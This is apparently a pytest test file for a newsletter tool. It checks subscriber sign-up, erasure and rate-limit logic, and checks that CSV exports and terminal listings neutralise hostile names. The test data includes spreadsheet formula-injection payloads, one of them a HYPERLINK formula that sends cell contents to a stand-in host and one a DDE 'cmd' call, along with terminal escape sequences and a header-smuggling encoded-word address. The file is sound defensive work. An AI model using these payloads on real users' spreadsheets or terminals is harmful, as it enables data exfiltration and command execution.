"""The reader lifecycle against outsiders, and the operator's tools against hostile data.

Addresses that pass email-validator but no header can carry; sign-ups that would
erase a returning reader's history or rewrite a pending reader's choices; mail
limits that counted mail never sent; a spreadsheet formula, a terminal escape
sequence and a 200,000-character field from the public form; and erasure that
must leave nothing behind (issue 19, items 3, 4 and 10).
"""

from __future__ import annotations

import csv
import os
import re
import sqlite3
import stat
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from feeds.build import build_feeds, load_project
from newsletter.audience import lifecycle as subs
from newsletter.cli import cli
from newsletter.config import BounceSettings, Config
from newsletter.issue.pipeline import issue_period, make_issue, write_issue
from newsletter.state import connect

from .conftest import NOW
from .smtp_server import Faults, SmtpServer
from .test_signup import configure, link_in, post
from .test_web import SECRET, serve

BAD = "=?utf-8?b?PHNjcmlwdD4=?=@example.com"  # email-validator takes it; headers cannot
NO_MAIL = 9  # an SMTP port for tests that send nothing (the discard port; nothing listens)


@pytest.fixture
def project(fixture_project: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The fixture project; sign-ups are processed one at a time, in order, so a
    later sign-up's mail arriving shows that the ones before it were decided."""
    monkeypatch.setenv("FEEDLETTER_SECRET", SECRET.decode())
    monkeypatch.chdir(fixture_project)
    config = fixture_project / "config.yaml"
    config.write_text(config.read_text() + "serve:\n  mail_threads: 1\n")
    return fixture_project


def issue(config: Config, day: date = date(2021, 4, 2)) -> str:
    period = issue_period(config, day)
    return write_issue(config, make_issue(load_project(config), config, period)).issue.issue_id


def test_an_address_no_header_can_carry_is_refused_at_every_entry(project: Path) -> None:
    with SmtpServer(Faults()) as smtp:
        config = configure(project, smtp.port)
        build_feeds(config, NOW)
        runner = CliRunner()
        added = runner.invoke(cli, ["subscribers", "add", BAD])
        assert added.exit_code == 1
        assert "is not an email address: it looks like an encoded word" in added.stderr
        rows = project / "people.csv"
        rows.write_text(f"email\n{BAD}\nfine@example.com\n")
        imported = runner.invoke(cli, ["subscribers", "import", str(rows)])
        assert "1 added, 0 updated, 1 rejected" in imported.stdout
        assert "line 2:" in imported.stderr
        for served in serve(config, preview=False):
            status, _, body = post(served, "/news/subscribe", [("email", BAD)])
            assert status == 400 and "That is not an email address." in body


def test_a_send_that_meets_an_unusable_stored_address_goes_on(project: Path) -> None:
    """One address stored before today's checks (here: written straight into the
    database) fails for that reader alone; everyone else gets the issue."""
    with SmtpServer(Faults()) as smtp:
        config = configure(project, smtp.port)
        build_feeds(config, NOW)
        issue(config)
        with connect(config.database) as conn:
            subs.add(conn, "ada@example.com")
            subs.add(conn, "zoe@example.com")
        assert config.database.path is not None
        with sqlite3.connect(config.database.path) as raw:
            raw.execute(
                "INSERT INTO subscribers (email, status, created_at) VALUES (?, 'active', ?)",
                (BAD, "2021-01-01T00:00:00+00:00"),
            )
        result = CliRunner().invoke(cli, ["send", "--force"])
        assert result.exit_code == 5, result.output  # finished, some recipients failed
        assert sorted(str(m["To"]) for m in smtp.messages) == [
            "ada@example.com",
            "zoe@example.com",
        ]
        assert f"failed {BAD}: not sent: it looks like an encoded word" in result.stdout
        with sqlite3.connect(config.database.path) as raw:
            assert raw.execute("SELECT COUNT(*) FROM claims").fetchone() == (0,)
            statuses = dict(raw.execute("SELECT email, status FROM deliveries"))
        assert statuses == {"ada@example.com": "sent", "zoe@example.com": "sent", BAD: "failed"}
        again = CliRunner().invoke(cli, ["send", "--force"])
        assert "Sent 0, already sent 2" in again.stdout  # and the bad one is not retried


def test_a_sign_up_never_erases_a_returning_readers_history(project: Path) -> None:
    """A reader who left more than confirm_days ago signs up again. Other sign-ups and
    the purge that follows must not delete them, and their link must work."""
    with SmtpServer(Faults()) as smtp:
        config = configure(project, smtp.port)
        build_feeds(config, NOW)
        issue(config)
        with connect(config.database) as conn:
            subs.add(conn, "back@example.com", name="Bea")
        assert CliRunner().invoke(cli, ["send", "--force"]).exit_code == 0
        long_ago = (datetime.now(UTC) - timedelta(days=30)).isoformat(timespec="seconds")
        assert config.database.path is not None
        with sqlite3.connect(config.database.path) as raw:
            raw.execute(
                "UPDATE subscribers SET status = 'unsubscribed', created_at = ?, "
                "status_at = ?, unsubscribed_at = ?",
                (long_ago, long_ago, long_ago),
            )
        for served in serve(config, preview=False):
            post(served, "/news/subscribe", [("email", "back@example.com"), ("topics", "portals")])
            served.settle()
            (mail,) = smtp.messages[1:]  # the issue, then the confirmation
            link = link_in(mail, "confirm")
            post(served, "/news/subscribe", [("email", "other@example.com")])
            served.settle()
            assert len(smtp.messages) == 3
            with sqlite3.connect(config.database.path) as raw:  # other's link has expired
                raw.execute(
                    "UPDATE subscribers SET created_at = ? WHERE email = 'other@example.com'",
                    (long_ago,),
                )
            # the purge takes only sign-ups never confirmed
            purged = CliRunner().invoke(cli, ["subscribers", "purge"])
            assert purged.stdout == "Deleted 1 sign-up(s) never confirmed within 7 days\n"
            with connect(config.database) as conn:
                assert subs.get(conn, "other@example.com") is None
            with connect(config.database) as conn:
                found = subs.get(conn, "back@example.com")
            assert (
                found is not None and found.status == "unsubscribed"
            )  # unchanged until they confirm
            with sqlite3.connect(config.database.path) as raw:
                sent = raw.execute(
                    "SELECT COUNT(*) FROM deliveries WHERE email = 'back@example.com'"
                ).fetchone()
            assert sent == (1,)  # the history is there
            assert post(served, link, [])[0] == 200
        with connect(config.database) as conn:
            found = subs.get(conn, "back@example.com")
        assert found is not None and (found.status, found.topics) == ("active", ("portals",))
        assert found.name == "Bea"


def test_a_visitor_cannot_rewrite_a_pending_readers_choices(project: Path) -> None:
    with SmtpServer(Faults()) as smtp:
        config = configure(project, smtp.port)
        build_feeds(config, NOW)
        for served in serve(config, preview=False):
            post(
                served,
                "/news/subscribe",
                [("email", "ada@example.com"), ("topics", "portals"), ("name", "Ada")],
            )
            link = link_in(smtp.wait_for(1)[0], "confirm")
            # someone else signs Ada up with other topics and another name (within
            # the ten minutes: no mail goes, and nothing else may happen either)
            post(
                served,
                "/news/subscribe",
                [("email", "ada@example.com"), ("topics", "canvas-apps"), ("name", "Mallory")],
            )
            served.settle()  # decided (no mail: within the ten minutes)
            assert len(smtp.messages) == 1
            with connect(config.database) as conn:
                pending = subs.get(conn, "ada@example.com")
            assert pending is not None and (pending.topics, pending.name) == (("portals",), "Ada")
            assert post(served, link, [])[0] == 200
        with connect(config.database) as conn:
            found = subs.get(conn, "ada@example.com")
        assert found is not None
        assert (found.status, found.topics, found.name) == ("active", ("portals",), "Ada")


def test_mail_limits_count_only_mail_the_relay_took(project: Path) -> None:
    faults = Faults(reject={"flaky@example.com"})
    with SmtpServer(faults) as smtp:
        config = configure(project, smtp.port, per_address_minutes=0, per_address_per_day=3)
        build_feeds(config, NOW)
        for served in serve(config, preview=False):
            for _ in range(3):  # refused by the relay: no mail went out
                post(served, "/news/subscribe", [("email", "flaky@example.com")])
                served.settle()  # the sign-up settled: its mail refused, so not counted
            assert smtp.messages == []
            faults.reject.clear()
            post(served, "/news/subscribe", [("email", "flaky@example.com")])
            served.settle()
            mails = list(smtp.messages)
        assert [str(m["To"]) for m in mails] == ["flaky@example.com"]


def test_the_export_is_private_and_safe_in_a_spreadsheet(project: Path) -> None:
    configure(project, NO_MAIL)
    runner = CliRunner()
    names = [
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1)",
        "-2",
    ]
    for n, name in enumerate(names):
        assert (
            runner.invoke(
                cli, ["subscribers", "add", f"r{n}@example.com", "--name", name]
            ).exit_code
            == 0
        )
    out = project / "export.csv"
    out.write_text("old")
    os.chmod(out, 0o644)
    assert runner.invoke(cli, ["subscribers", "export", str(out)]).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.DictReader(out.open()))
    assert [r["name"] for r in rows] == ["'" + name for name in names]


def test_terminal_output_carries_no_control_characters(project: Path) -> None:
    config = configure(project, NO_MAIL)
    runner = CliRunner()
    runner.invoke(
        cli, ["subscribers", "add", "eve@example.com", "--name", "Eve\x1b[2J\x1b]0;pwned\x07"]
    )
    assert config.database.path is not None
    with sqlite3.connect(config.database.path) as raw:  # one stored before names were cleaned
        raw.execute(
            "INSERT INTO subscribers (email, name, status, created_at) VALUES (?, ?, 'active', ?)",
            ("old@example.com", "Old\x1b[31m\u202eName", "2021-01-01T00:00:00+00:00"),
        )
    listed = runner.invoke(cli, ["subscribers", "list"])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", listed.stdout), listed.stdout
    assert "old@example.com\tactive\tall\tOld\\x1b[31m\\u202eName" in listed.stdout
    assert "eve@example.com\tactive\tall\tEve [2J ]0;pwned" in listed.stdout


def test_a_csv_field_too_long_is_one_bad_row(project: Path) -> None:
    configure(project, NO_MAIL)
    rows = project / "people.csv"
    rows.write_text(
        "email,name\nfirst@example.com,A\nhuge@example.com,"
        + "y" * 200_000
        + "\nlast@example.com,B\n"
    )
    result = CliRunner().invoke(cli, ["subscribers", "import", str(rows)])
    assert result.exit_code == 0, result.output
    assert "2 added, 0 updated, 1 rejected" in result.stdout
    assert "line 3: cannot be read as CSV (field larger than field limit" in result.stderr


def test_forget_leaves_nothing_that_identifies_the_address(project: Path) -> None:
    faults = Faults()
    with SmtpServer(faults) as smtp:
        config = configure(project, smtp.port)
        build_feeds(config, NOW)
        issue(config)
        with connect(config.database) as conn:
            reader, _ = subs.add(conn, "gone@example.com", name="Gone Person")
            subs.record_returned_mail(conn, reader.id, "soft", "452 4.2.2 gone@example.com is full",
                                      limits=BounceSettings(hard_limit=1), now=datetime.now(UTC))  # fmt: skip
        assert CliRunner().invoke(cli, ["send", "--force"]).exit_code == 0
        assert config.database.path is not None
        with sqlite3.connect(config.database.path) as raw:
            (message_id,) = raw.execute("SELECT message_id FROM deliveries").fetchone()
        forgot = CliRunner().invoke(cli, ["subscribers", "forget", "gone@example.com"])
        assert forgot.exit_code == 0, forgot.output
        with sqlite3.connect(config.database.path) as raw:
            dump = "\n".join(raw.iterdump()).lower()
            kept = raw.execute("SELECT issue_id, status FROM deliveries").fetchall()
        assert "gone@example.com" not in dump and "gone person" not in dump
        digest = message_id.strip("<>").split("@")[0].split(".")[1]
        assert digest not in dump  # the Message-ID was made from the address
        assert kept == [("2021-W13", "sent")]  # the send log still stops a resend
